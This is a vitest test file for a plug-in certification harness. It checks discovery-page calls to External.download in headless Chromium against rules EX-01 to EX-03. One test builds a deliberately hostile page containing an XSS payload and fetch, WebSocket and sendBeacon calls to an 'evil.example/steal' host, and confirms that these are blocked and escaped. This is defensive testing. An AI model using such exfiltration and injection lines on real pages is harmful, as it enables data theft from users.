/**
 * The EX rules in real headless Chromium (playwright-core): the conforming page passes every EX rule,
 * each page mutant is caught on exactly its rule with the page's own call quoted, the plug-in that
 * drops a track is caught on EX-03, the generated page plays the harness's values, and no request
 * leaves the page. One browser for the whole file.
 *
 * Without a browser the suite is skipped with a message, unless CI=true or WMPCERT_REQUIRE_BROWSER=1,
 * where a missing browser is a failure.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { isPageRule, judgePage, mergePageRules, replayPage, type PageJudgement } from '../../harness/discovery/certify-page.ts';
import { generatePage } from '../../harness/discovery/generated-page.ts';
import { DiscoveryBrowser, PAGE_URL, type PageBrowser } from '../../harness/discovery/page-browser.ts';
import type { PluginCandidate } from '../../harness/protocol/types.ts';
import type { RuleResult } from '../../harness/report/model.ts';
import { renderHtml } from '../../harness/report/html.ts';
import { renderSummaryMarkdown } from '../../harness/report/markdown.ts';
import { renderJunit } from '../../harness/report/junit.ts';
import { validateReport } from '../../harness/report/validate-report.ts';
import { loadCandidate } from '../../harness/adapters/load-candidate.ts';
import { certify } from '../../harness/runner/certify.ts';
import reference from '../../fixtures/plugins/reference.ts';
import { pageFixturePath } from '../../fixtures/pages/index.ts';
import { naturalMutantPath } from '../../fixtures/mutants/plugins/index.ts';
import { certifiedReport } from '../report/sample-report.ts';
import { chromiumForTests } from '../setup/chromium-for-tests.ts';

const { executablePath, skip, missing, require: requireChromium } = chromiumForTests('test/discovery/discovery-page.test.ts');

const SEED = 20_240_601;
const statuses = (judged: PageJudgement) => Object.fromEntries(judged.rules.map((rule) => [rule.id, rule.status]));
const rule = (judged: PageJudgement, id: string): RuleResult => judged.rules.find((each) => each.id === id)!;
const strings = (judged: PageJudgement) => judged.calls.map((call) => call.args.map((arg) => (arg.type === 'string' ? arg.value : `${arg.type}:${arg.text}`)));

describe.skipIf(skip)(skip ? `discovery pages in Chromium (skipped: ${missing})` : 'discovery pages in Chromium', () => {
  let browser: PageBrowser;

  beforeAll(async () => {
    requireChromium();
    const opened = await DiscoveryBrowser.open(executablePath);
    if (!opened.ok) throw new Error(opened.reason);
    browser = opened.browser;
  });

  afterAll(async () => {
    await browser?.close();
  });

  async function judgeFixture(file: string): Promise<PageJudgement> {
    const modulePath = pageFixturePath(file);
    const candidate = (await import(modulePath) as { default: PluginCandidate }).default;
    return judgePage(candidate, { seed: SEED, modulePath, browser, source: `fixtures/pages/${file}` });
  }

  test('the conforming page and the reference plug-in pass every EX rule; nothing but the page was requested', async () => {
    const judged = await judgeFixture('page-plugin.ts');
    expect(statuses(judged)).toEqual({ 'EX-01': 'passed', 'EX-02': 'passed', 'EX-03': 'passed' });
    expect(judged.rules.map((r) => r.cases)).toEqual([4, 4, 4]);
    expect(strings(judged)).toEqual([['CPTrackID', '12;15'], ['CPAlbumID', '7'], ['CPListID', '3;4'], ['CPTrackID', '12;12;0;4294967294']]);
    expect(judged.calls.map((call) => call.after)).toEqual(['click 1 (Download)', 'click 2 (Download album)', 'click 3 (Download list)', 'click 4 (Download)']);
    expect(judged.requests).toEqual([PAGE_URL]);
    expect(judged.notes).toEqual([]);
  });

  test('bad-type.html is caught on EX-01 alone, with the page\'s call quoted', async () => {
    const judged = await judgeFixture('bad-type-plugin.ts');
    expect(statuses(judged)).toEqual({ 'EX-01': 'failed', 'EX-02': 'passed', 'EX-03': 'passed' });
    const failure = rule(judged, 'EX-01').failure!;
    expect(failure.violations.map((v) => v.message)).toEqual([
      'page call #2 External.download("CPTrackIDs", "1") (click 2 (Download track)): Type "CPTrackIDs" is not a location type External.download takes: use "CPTrackID", "CPAlbumID" or "CPListID"',
    ]);
    expect(failure.counterexample).toMatchObject({ seed: SEED, path: 'page:2', foundAtRun: 1, shrinks: 0 });
    const evidence = failure.trace.find((event) => event.seq === failure.violations[0]!.events[0]);
    expect(evidence).toMatchObject({ type: 'call', method: 'External.download', args: ['CPTrackIDs', '1'] });
    expect(judged.requests).toEqual([PAGE_URL]);
  });

  test('bad-ids.html is caught on EX-02 alone, every malformed call quoted as the page passed it', async () => {
    const judged = await judgeFixture('bad-ids-plugin.ts');
    expect(statuses(judged)).toEqual({ 'EX-01': 'passed', 'EX-02': 'failed', 'EX-03': 'passed' });
    const messages = rule(judged, 'EX-02').failure!.violations.map((v) => v.message);
    expect(messages).toHaveLength(5);
    expect(messages[0]).toContain('External.download("CPTrackID", "1;;2") (click 2 (empty item)): item 2 is empty');
    expect(messages[1]).toContain('External.download("CPTrackID", "12, 15")');
    expect(messages[1]).toContain('uses ","');
    expect(messages[2]).toContain('External.download("CPTrackID", "-1")');
    expect(messages[3]).toContain('External.download("CPTrackID", "4294967296")');
    expect(messages[3]).toContain('larger than 4294967295');
    expect(messages[4]).toContain('External.download("CPTrackID", 12) (click 6 (a number)): IDs is a number (12), not a string');
    // The number stays a number in the trace: the JS type is kept.
    expect(rule(judged, 'EX-02').failure!.trace.filter((e) => e.type === 'call').at(-1)).toMatchObject({ args: ['CPTrackID', 12] });
    expect(judged.calls[5]!.args[1]).toEqual({ type: 'number', text: '12' });
    expect(rule(judged, 'EX-03').cases).toBe(1);
  });

  test('a plug-in that drops the first track is caught on EX-03 alone, with the page\'s call quoted', async () => {
    const judged = await judgeFixture('drops-first-track.ts');
    expect(statuses(judged)).toEqual({ 'EX-01': 'passed', 'EX-02': 'passed', 'EX-03': 'failed' });
    const failure = rule(judged, 'EX-03').failure!;
    expect(failure.message).toContain('page call #1 External.download("CPTrackID", "12;15") (click 1 (Download)) became a download the plug-in did not serve in full — DL-02: track 12');
    expect(rule(judged, 'EX-03').cases).toBe(1);
    expect(judged.notes).toContain('EX-03 failed on page call #1: the 3 later well-formed call(s) were not played');
    expect(failure.violations.every((v) => v.rule === 'EX-03')).toBe(true);
    expect(failure.counterexample).toMatchObject({ path: 'page:1', tracks: 2, transactions: 1 });
    // The trace starts with the page's call, then the download it became.
    expect(failure.trace[0]).toMatchObject({ seq: 0, type: 'call', method: 'External.download', args: ['CPTrackID', '12;15'] });
    expect(failure.trace.some((e) => e.type === 'call' && e.method === 'download')).toBe(true);
    expect(failure.trace.map((e) => e.seq)).toEqual(failure.trace.map((_, i) => i));
    expect(failure.violations[0]!.events.every((seq) => seq < failure.trace.length)).toBe(true);
  });

  test('without a page of its own, a candidate plays the generated page: exactly the harness\'s values, all passing', async () => {
    const judged = await judgePage(reference, { seed: SEED, browser, pageCases: 6 });
    expect(judged.page).toBe('generated');
    expect(strings(judged)).toEqual(generatePage(SEED, 6).cases);
    expect(statuses(judged)).toEqual({ 'EX-01': 'passed', 'EX-02': 'passed', 'EX-03': 'passed' });
    expect(rule(judged, 'EX-01').cases).toBe(6);
    expect(judged.requests).toEqual([PAGE_URL]);
  });

  test('the generated page with malformed values: each caught on its rule, JS types kept', async () => {
    const judged = await judgePage(reference, {
      seed: SEED, browser,
      cases: [['CPTrackID', '1;2'], ['CPTrackID', 12], ['Bogus', '3'], [{ $undefined: true }], ['CPListID', '5', 'extra'], [null, '1;;2']],
    });
    expect(statuses(judged)).toEqual({ 'EX-01': 'failed', 'EX-02': 'failed', 'EX-03': 'passed' });
    expect(judged.calls.map((call) => call.argc)).toEqual([2, 2, 2, 1, 3, 2]);
    expect(rule(judged, 'EX-01').failure!.violations.map((v) => v.message.split(': ').at(-1))).toEqual([
      'use "CPTrackID", "CPAlbumID" or "CPListID"', 'Type is undefined, not a string', 'Type is null, not a string',
    ]);
    expect(rule(judged, 'EX-02').failure!.violations.map((v) => v.message.split(': ').at(-1))).toEqual([
      'IDs is a number (12), not a string', 'IDs is missing', 'item 2 is empty',
    ]);
    expect(rule(judged, 'EX-03').cases).toBe(2);
    expect(judged.notes).toContain('page call #5 External.download("CPListID", "5", "extra") passes 3 arguments: the ones after IDs are ignored');
  });

  test('a hostile page: strings recorded exactly, the recorder cannot be replaced or forged, every request aborted', async () => {
    const hostile = '<img src=x onerror=alert(1)>\u0000\ud800';
    const page = `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><body>
<img src="http://images.example.com/cover.png"><iframe src="https://evil.example/frame"></iframe>
<script>
  const outcomes = [];
  try { window.external = { download() {} }; } catch (e) {}
  try { delete window.external; } catch (e) {}
  try { window.external.download = function () {}; } catch (e) {}
  outcomes.push(typeof window.__wmpcertRecord);
  const probes = [
    fetch('http://evil.example/steal').then(() => 'fetch reached', () => 'fetch failed'),
    fetch('http://127.0.0.1:1/x').then(() => 'loopback reached', () => 'loopback failed'),
    new Promise((resolve) => { const ws = new WebSocket('ws://evil.example/ws'); ws.onopen = () => resolve('ws open'); ws.onerror = ws.onclose = () => resolve('ws failed'); }),
  ];
  navigator.sendBeacon('http://evil.example/beacon', 'x');
  window.external.download(${JSON.stringify(hostile)}, '1');
  Promise.all(probes).then((results) => window.external.download('CPTrackID', outcomes.concat(results).join('|')));
</script>`;
    const judged = await judgePage({ ...reference, discoveryPage: page }, { seed: SEED, browser });
    expect(judged.page).toBe('inline HTML');
    expect(judged.calls[0]!.args[0]).toEqual({ type: 'string', value: hostile });
    expect(strings(judged)[1]).toEqual(['CPTrackID', 'undefined|fetch failed|loopback failed|ws failed']);
    expect(judged.requests[0]).toBe(PAGE_URL);
    expect(new Set(judged.requests.slice(1))).toEqual(new Set([
      'http://images.example.com/cover.png', 'https://evil.example/frame', 'http://evil.example/steal', 'http://127.0.0.1:1/x',
      'ws://evil.example/ws', 'http://evil.example/beacon',
    ]));
    expect(judged.notes.filter((note) => note.includes(': aborted'))).toHaveLength(5);
    expect(statuses(judged)).toEqual({ 'EX-01': 'failed', 'EX-02': 'failed', 'EX-03': 'skipped' });

    // The page's strings reach every report writer escaped.
    const report = mergePageRules(certifiedReport(), judged.rules, judged.notes);
    validateReport(report);
    const html = renderHtml(report);
    expect(html).not.toContain('<img src=x');
    expect(html).not.toMatch(/[\u0000\ud800]/);
    const markdown = renderSummaryMarkdown(report);
    expect(markdown).toContain('EX-01');
    expect(markdown).not.toContain('<img src=x');
    expect(renderJunit(report)).not.toContain('<img src=x');
    expect(renderJunit(report)).not.toMatch(/[\u0000\ud800]/);
  });

  test('replay re-plays the page call a counterexample names (page:<n>)', async () => {
    const loaded = await loadCandidate(pageFixturePath('bad-type-plugin.ts'));
    const again = await replayPage(loaded, { seed: SEED, path: 'page:2', ruleId: 'EX-01', timeoutMs: 5_000, browser });
    expect(again.reproduced).toBe(true);
    expect(again.message).toContain('External.download("CPTrackIDs", "1")');
    expect(isPageRule('EX-01') && !isPageRule('DL-01')).toBe(true);
    await expect(replayPage(loaded, { seed: SEED, path: '3:1', ruleId: 'EX-01', timeoutMs: 5_000 })).rejects.toThrow(/not a discovery-page path/);
  });

  test('a page that makes no call: the EX rules are skipped with the reason', async () => {
    const judged = await judgePage({ ...reference, discoveryPage: '<p>no buttons here</p>' }, { seed: SEED, browser });
    expect(judged.rules.map((r) => [r.status, r.reason])).toEqual(Array(3).fill(['skipped',
      'the discovery page made no External.download call (wmpcert loads it, then clicks every <button> and [data-wmpcert-click] element once)']));
  });
});

describe.skipIf(skip)('certify judges the discovery page (one hook)', () => {
  beforeAll(() => {
    requireChromium();
  });

  /** Certifies a candidate file as the CLI would, keeping the lines it logs. */
  async function certifyLogged(path: string, runs: number, shard: { index: number; count: number } | null = null) {
    const loaded = await loadCandidate(path);
    const lines: string[] = [];
    const report = await certify(loaded, {
      runs, seed: SEED, timeoutMs: 5_000, level: 'required', shard,
      replayCommand: (id) => `npx wmpcert replay report.json --rule ${id}`, log: (line) => lines.push(line),
    });
    return { report, lines };
  }

  test('bad-type-plugin.ts is not certified, on EX-01, and its report validates', async () => {
    const { report, lines } = await certifyLogged(pageFixturePath('bad-type-plugin.ts'), 1);
    validateReport(report);
    expect(report.rules.filter((r) => r.family === 'EX').map((r) => [r.id, r.status])).toEqual([['EX-01', 'failed'], ['EX-02', 'passed'], ['EX-03', 'passed']]);
    expect(report.blockingFailures).toContain('EX-01');
    expect(report.verdict).toBe('not-certified');
    expect(lines).toContain('EX-01 failed on the discovery page (page:2)');
  });

  test('a page download that fails as the exploration did is reported under the DL rule alone, in the log as in the report', async () => {
    // Drops the last, partial chunk of three tracks: DL-02, in the page's downloads as in every other.
    const { report, lines } = await certifyLogged(naturalMutantPath('dl-02-drops-partial-chunk.ts'), 10);
    expect(report.blockingFailures).toEqual(['DL-02']);
    const ex03 = report.rules.find((rule) => rule.id === 'EX-03')!;
    expect(ex03.status).toBe('passed');
    expect(ex03.attribution?.join(' ')).toMatch(/failed DL-02, as the certification's own downloads did/);
    expect(lines.filter((line) => line.includes('on the discovery page'))).toEqual([]);
  });

  test('in shards other than the first, the page is not judged', async () => {
    const { report } = await certifyLogged(pageFixturePath('bad-type-plugin.ts'), 1, { index: 2, count: 2 });
    expect(report.rules.filter((r) => r.family === 'EX').map((r) => [r.status, r.reason])).toEqual(Array(3).fill(['skipped', 'the discovery page is judged by shard 1 of 2']));
  });
});

